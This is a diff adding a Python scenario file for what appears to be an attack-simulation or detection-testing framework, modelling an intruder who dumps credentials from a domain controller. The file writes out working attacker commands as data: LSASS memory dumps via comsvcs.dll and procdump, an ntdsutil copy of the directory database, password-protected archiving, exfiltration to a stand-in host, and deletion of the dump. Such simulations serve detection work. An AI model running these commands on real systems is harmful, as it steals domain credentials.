@@ -1,0 +1,90 @@
+"""An intruder with administrator's rights takes the credentials of a domain controller."""
+
+from vedette.simulate.story import (
+    Connect,
+    Delete,
+    End,
+    Load,
+    NetworkLogon,
+    OpenProcess,
+    Run,
+    Story,
+    Write,
+)
+
+_ALL_ACCESS = 0x1FFFFF
+_DUMP = r"C:\Windows\Temp\health.dmp"
+_PROCDUMP = r"C:\Users\Public\procdump64.exe"
+
+CREDENTIAL_DUMP = Story(
+    name="credential dump",
+    title="Credentials taken from LSASS and from the directory database",
+    hosts=(("dc", "domain_controller"), ("desk", "developer")),
+    hour=14.8,
+    query="cmdline:comsvcs.dll cmdline:minidump",
+    steps=(
+        NetworkLogon(0, "dc", "svc-backup", "T1078.002", "<desk.ip>"),
+        Run(
+            3,
+            "dc",
+            "shell",
+            "T1021.006",
+            "wmi",
+            "cmd.exe",
+            r"cmd.exe /Q /c cd \ 1> C:\Windows\Temp\o",
+        ),
+        Run(
+            20,
+            "dc",
+            "dumper",
+            "T1003.001",
+            "shell",
+            "rundll32.exe",
+            rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 696 {_DUMP} full",
+        ),
+        Load(0.2, "dc", "dumper", "T1003.001", r"C:\Windows\System32\dbghelp.dll"),
+        Load(0.1, "dc", "dumper", "T1003.001", r"C:\Windows\System32\dbgcore.dll"),
+        OpenProcess(0.1, "dc", "dumper", "T1003.001", "lsass", _ALL_ACCESS),
+        Write(1, "dc", "dumper", "T1003.001", _DUMP),
+        End(2, "dc", "dumper", ""),
+        Write(60, "dc", "shell", "T1588.002", _PROCDUMP),
+        Run(
+            4,
+            "dc",
+            "procdump",
+            "T1003.001",
+            "shell",
+            _PROCDUMP,
+            rf"{_PROCDUMP} -accepteula -ma lsass.exe C:\Users\Public\ls.dmp",
+        ),
+        OpenProcess(0.5, "dc", "procdump", "T1003.001", "lsass", _ALL_ACCESS),
+        Write(1, "dc", "procdump", "T1003.001", r"C:\Users\Public\ls.dmp"),
+        End(3, "dc", "procdump", ""),
+        Run(
+            90,
+            "dc",
+            "ntds",
+            "T1003.003",
+            "shell",
+            "ntdsutil.exe",
+            r'ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\copy" q q',
+        ),
+        Write(20, "dc", "ntds", "T1003.003", r"C:\Windows\Temp\copy\Active Directory\ntds.dit"),
+        Write(1, "dc", "ntds", "T1003.002", r"C:\Windows\Temp\copy\registry\SYSTEM"),
+        End(4, "dc", "ntds", ""),
+        Run(
+            30,
+            "dc",
+            "packer",
+            "T1560.001",
+            "shell",
+            "7zg.exe",
+            r'"C:\Program Files\7-Zip\7zG.exe" a -pH4l C:\PerfLogs\copy.7z C:\Windows\Temp\copy',
+        ),
+        Write(5, "dc", "packer", "T1560.001", r"C:\PerfLogs\copy.7z"),
+        End(3, "dc", "packer", ""),
+        Connect(10, "dc", "shell", "T1048.003", "198.51.100.23", 443, "drop.paste.invalid"),
+        Delete(20, "dc", "shell", "T1070.004", _DUMP),
+        End(2, "dc", "shell", ""),
+    ),
+)
